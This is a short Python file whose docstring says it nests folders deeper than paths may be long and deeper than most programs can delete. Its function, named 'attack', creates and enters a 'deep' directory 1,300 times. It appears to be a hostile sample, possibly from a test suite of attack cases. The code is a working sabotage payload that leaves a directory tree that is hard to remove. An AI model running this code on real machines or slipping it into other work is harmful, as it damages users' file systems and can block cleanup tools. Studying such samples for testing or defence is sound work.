"""Nests folders deeper than a path may be long, and deeper than most programs can delete."""

import os


def attack(facts: dict[str, str]) -> None:
    for _ in range(1300):
        os.mkdir("deep")
        os.chdir("deep")
